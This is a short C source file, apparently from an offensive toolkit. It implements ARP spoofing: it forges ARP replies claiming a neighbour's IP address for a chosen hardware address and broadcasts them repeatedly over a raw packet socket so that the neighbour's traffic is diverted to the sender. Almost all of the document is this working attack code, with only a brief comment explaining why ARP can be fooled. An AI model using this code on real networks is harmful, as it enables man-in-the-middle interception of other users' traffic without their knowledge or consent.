/*
 * Who has this address? Whoever says "I have" is believed: ARP knows no proof (arp(7)). A box on a bridge that may make packets by hand
 * answers for its neighbours, and what was meant for them comes to it.
 */
#include "attack.h"
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netpacket/packet.h>
#include <sys/socket.h>

/* argv: an interface, the address to answer for, the address to answer to, the hardware address that is to be believed. */
void arp_spoof(char **argv)
{
	struct {
		struct ethhdr frame;
		struct ether_arp reply;
	} packet = { .frame.h_proto = htons(ETH_P_ARP) };
	struct ether_arp *reply = &packet.reply;
	reply->ea_hdr = (struct arphdr){ htons(1), htons(ETH_P_IP), 6, 4, htons(ARPOP_REPLY) };
	for (int n = 0; n < 6; n++)
		reply->arp_sha[n] = packet.frame.h_source[n] = strtoul(argv[3] + 3 * n, NULL, 16);
	memset(packet.frame.h_dest, 0xff, ETH_ALEN);
	inet_pton(AF_INET, argv[1], reply->arp_spa);
	inet_pton(AF_INET, argv[2], reply->arp_tpa);
	const int line = must(socket(AF_PACKET, SOCK_RAW, 0), "make packets by hand");
	const struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(argv[0]), .sll_halen = ETH_ALEN };
	for (int n = 0; n < 50; n++, usleep(100000))
		must(sendto(line, &packet, sizeof packet, 0, (const struct sockaddr *)&to, sizeof to), "answer for a neighbour");
}
